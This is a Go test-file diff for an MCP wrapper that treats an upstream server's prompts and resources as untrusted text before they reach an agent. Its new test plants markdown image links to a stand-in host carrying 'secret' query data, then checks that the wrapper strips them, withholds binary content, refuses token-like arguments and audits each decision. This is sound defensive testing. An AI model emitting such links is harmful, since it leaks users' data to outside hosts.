@@ -236,6 +236,9 @@ func TestLoadPolicy(t *testing.T) {
 	if err != nil || p.Default != "deny" || !p.Tools["write"].Approval || p.Tools["read"].RatePerMinute != 5 {
 		t.Errorf("yaml: %+v, %v", p, err)
 	}
+	if p, err := load("prompts: deny\nresources: allow\n"); err != nil || p.Prompts != "deny" || p.Resources != "allow" {
+		t.Errorf("prompts and resources: %+v, %v", p, err)
+	}
 	if p, err := load(`{"tools": {"x": {"max_args_bytes": 10}}}`); err != nil || p.Tools["x"].MaxArgsBytes != 10 {
 		t.Errorf("json: %+v, %v", p, err)
 	}
@@ -245,7 +248,7 @@ func TestLoadPolicy(t *testing.T) {
 	}
 	for _, bad := range []string{"defualt: deny\n", "default: maybe\n", "tools:\n  x: {rate_per_minute: -1}\n", "tools:\n  x: {aproval: true}\n",
 		"path_args: [path]\n", "tools:\n  x: {path_args: [path]}\n", "roots: [data]\npath_args: [path]\n",
-		"refuse: {path: [\"re:(\"]}\n", "refuse: {path: [\"\"]}\n", "roots: [/d]\npath_args: [\"*\"]\n"} {
+		"refuse: {path: [\"re:(\"]}\n", "refuse: {path: [\"\"]}\n", "roots: [/d]\npath_args: [\"*\"]\n", "prompts: maybe\n", "resources: yes\n"} {
 		if _, err := load(bad); err == nil {
 			t.Errorf("%q loaded", bad)
 		}
@@ -383,4 +386,166 @@ func TestIdle(t *testing.T) {
 	if !strings.Contains(audit.b.String(), `"event":"exit"`) {
 		t.Errorf("audit: %s", audit.b.String())
 	}
+}
+
+// TestPromptsResources: the wrapped server's prompts and listed resources
+// reach the agent as untrusted text (links and images to other hosts
+// neutralised, non-text content withheld, capped); a prompt's arguments
+// pass the refused patterns; resource templates are not offered, so only
+// listed URIs can be read; list changes are followed; a policy that
+// denies them offers none.
+func TestPromptsResources(t *testing.T) {
+	up := mcp.NewServer(&mcp.Implementation{Name: "up"}, nil)
+	up.AddTool(&mcp.Tool{Name: "echo", InputSchema: map[string]any{"type": "object"}}, func(context.Context, *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
+		return &mcp.CallToolResult{}, nil
+	})
+	up.AddPrompt(&mcp.Prompt{Name: "greet", Description: "greets ![x](https://evil.test/p?d=1)", Arguments: []*mcp.PromptArgument{{Name: "who"}}},
+		func(_ context.Context, req *mcp.GetPromptRequest) (*mcp.GetPromptResult, error) {
+			return &mcp.GetPromptResult{Messages: []*mcp.PromptMessage{
+				{Role: "user", Content: &mcp.TextContent{Text: "hello " + req.Params.Arguments["who"] + " ![i](https://evil.test/i.png?d=secret) [docs](https://docs.test/a) " + strings.Repeat("B", 5000)}},
+				{Role: "assistant", Content: &mcp.ImageContent{MIMEType: "image/png", Data: []byte("png")}},
+			}}, nil
+		})
+	read := func(_ context.Context, req *mcp.ReadResourceRequest) (*mcp.ReadResourceResult, error) {
+		if strings.HasSuffix(req.Params.URI, "/bin") {
+			return &mcp.ReadResourceResult{Contents: []*mcp.ResourceContents{{URI: req.Params.URI, MIMEType: "application/octet-stream", Blob: []byte{0, 1, 2}}}}, nil
+		}
+		return &mcp.ReadResourceResult{Contents: []*mcp.ResourceContents{{URI: req.Params.URI, MIMEType: "text/markdown", Text: "note ![t](https://evil.test/r.png?d=secret)"}}}, nil
+	}
+	up.AddResource(&mcp.Resource{URI: "test://notes/a", Name: "a"}, read)
+	up.AddResource(&mcp.Resource{URI: "test://notes/bin", Name: "bin"}, read)
+	up.AddResourceTemplate(&mcp.ResourceTemplate{URITemplate: "test://files/{name}", Name: "files"}, read)
+	st, ct := mcp.NewInMemoryTransports()
+	upSess, err := up.Connect(context.Background(), st, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer upSess.Close()
+
+	audit := &syncBuf{}
+	w, err := mcpwrap.Connect(context.Background(), mcpwrap.Config{
+		Policy:      mcpwrap.Policy{Refuse: map[string][]string{"*": {"re:(?i)token"}}},
+		OutputHosts: []string{"docs.test"}, MaxResultBytes: 1000, Audit: mcpwrap.JSONLines(audit),
+	}, ct)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer w.Close()
+	changed := make(chan struct{}, 16)
+	agent := connectAgent(t, w, &mcp.ClientOptions{
+		PromptListChangedHandler: func(context.Context, *mcp.PromptListChangedRequest) { changed <- struct{}{} },
+	})
+	ctx := context.Background()
+
+	prompts, err := agent.ListPrompts(ctx, nil)
+	if err != nil || len(prompts.Prompts) != 1 || prompts.Prompts[0].Name != "greet" || strings.Contains(prompts.Prompts[0].Description, "evil.test") {
+		t.Fatalf("prompts: %+v, %v", prompts, err)
+	}
+	got, err := agent.GetPrompt(ctx, &mcp.GetPromptParams{Name: "greet", Arguments: map[string]string{"who": "ann"}})
+	if err != nil || len(got.Messages) != 2 {
+		t.Fatalf("greet: %+v, %v", got, err)
+	}
+	first := got.Messages[0].Content.(*mcp.TextContent).Text
+	if !strings.HasPrefix(first, "hello ann") || strings.Contains(first, "evil.test") || !strings.Contains(first, "https://docs.test/a") ||
+		!strings.Contains(first, "truncated at 1000 bytes") || len(first) > 1100 {
+		t.Errorf("greet's text: %q", first)
+	}
+	if second := got.Messages[1].Content.(*mcp.TextContent).Text; !strings.Contains(second, "withheld") {
+		t.Errorf("greet's image: %q", second)
+	}
+	if _, err := agent.GetPrompt(ctx, &mcp.GetPromptParams{Name: "greet", Arguments: map[string]string{"who": "my TOKEN"}}); err == nil || !strings.Contains(err.Error(), "airlock:") {
+		t.Errorf("a refused argument: %v", err)
+	}
+
+	res, err := agent.ListResources(ctx, nil)
+	if err != nil || len(res.Resources) != 2 {
+		t.Fatalf("resources: %+v, %v", res, err)
+	}
+	if tmpl, err := agent.ListResourceTemplates(ctx, nil); err == nil && len(tmpl.ResourceTemplates) != 0 {
+		t.Errorf("templates offered: %+v", tmpl.ResourceTemplates)
+	}
+	note, err := agent.ReadResource(ctx, &mcp.ReadResourceParams{URI: "test://notes/a"})
+	if err != nil || len(note.Contents) != 1 || !strings.HasPrefix(note.Contents[0].Text, "note") || strings.Contains(note.Contents[0].Text, "evil.test") {
+		t.Errorf("note: %+v, %v", note, err)
+	}
+	bin, err := agent.ReadResource(ctx, &mcp.ReadResourceParams{URI: "test://notes/bin"})
+	if err != nil || len(bin.Contents) != 1 || bin.Contents[0].Blob != nil || !strings.Contains(bin.Contents[0].Text, "withheld") {
+		t.Errorf("bin: %+v, %v", bin, err)
+	}
+	if _, err := agent.ReadResource(ctx, &mcp.ReadResourceParams{URI: "test://files/x"}); err == nil {
+		t.Error("a URI of a template was read")
+	}
+
+	up.AddPrompt(&mcp.Prompt{Name: "later"}, func(context.Context, *mcp.GetPromptRequest) (*mcp.GetPromptResult, error) {
+		return &mcp.GetPromptResult{Messages: []*mcp.PromptMessage{{Role: "user", Content: &mcp.TextContent{Text: "later"}}}}, nil
+	})
+	up.RemoveResources("test://notes/a")
+	deadline := time.After(time.Minute)
+	for {
+		select {
+		case <-changed:
+		case <-deadline:
+			t.Fatal("the prompt list change did not reach the agent")
+		}
+		if p, err := agent.ListPrompts(ctx, nil); err == nil && len(p.Prompts) == 2 {
+			break
+		}
+	}
+	for i := 0; ; i++ {
+		if r, err := agent.ListResources(ctx, nil); err == nil && len(r.Resources) == 1 {
+			break
+		} else if i == 100 {
+			t.Fatalf("a removed resource is still offered: %+v, %v", r, err)
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	log := audit.b.String()
+	for _, want := range []string{`"prompt":"greet","decision":"listed"`, `"event":"prompt","prompt":"greet","decision":"relayed"`,
+		`"event":"prompt","prompt":"greet","decision":"denied"`, `"event":"read","resource":"test://notes/bin","decision":"relayed"`,
+		`"resource":"test://notes/a","decision":"withdrawn"`, `"prompt":"later","decision":"listed"`} {
+		if !strings.Contains(log, want) {
+			t.Errorf("audit lacks %s:\n%s", want, log)
+		}
+	}
+
+	// Denied by the policy: nothing of either is offered.
+	st2, ct2 := mcp.NewInMemoryTransports()
+	upSess2, err := up.Connect(context.Background(), st2, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer upSess2.Close()
+	w2, err := mcpwrap.Connect(context.Background(), mcpwrap.Config{Policy: mcpwrap.Policy{Prompts: "deny", Resources: "deny"}}, ct2)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer w2.Close()
+	agent2 := connectAgent(t, w2, nil)
+	if p, err := agent2.ListPrompts(ctx, nil); err == nil && len(p.Prompts) != 0 {
+		t.Errorf("denied prompts offered: %+v", p.Prompts)
+	}
+	if r, err := agent2.ListResources(ctx, nil); err == nil && len(r.Resources) != 0 {
+		t.Errorf("denied resources offered: %+v", r.Resources)
+	}
+	if _, err := agent2.GetPrompt(ctx, &mcp.GetPromptParams{Name: "greet"}); err == nil {
+		t.Error("a denied prompt was relayed")
+	}
+}
+
+// connectAgent connects an agent's client to the wrapper's server over
+// in-memory transports, closed when the test ends.
+func connectAgent(t *testing.T, w *mcpwrap.Wrapper, opts *mcp.ClientOptions) *mcp.ClientSession {
+	t.Helper()
+	st, ct := mcp.NewInMemoryTransports()
+	ss, err := w.Server().Connect(context.Background(), st, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ss.Close() })
+	cs, err := mcp.NewClient(&mcp.Implementation{Name: "agent"}, opts).Connect(context.Background(), ct, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cs.Close() })
+	return cs
 }
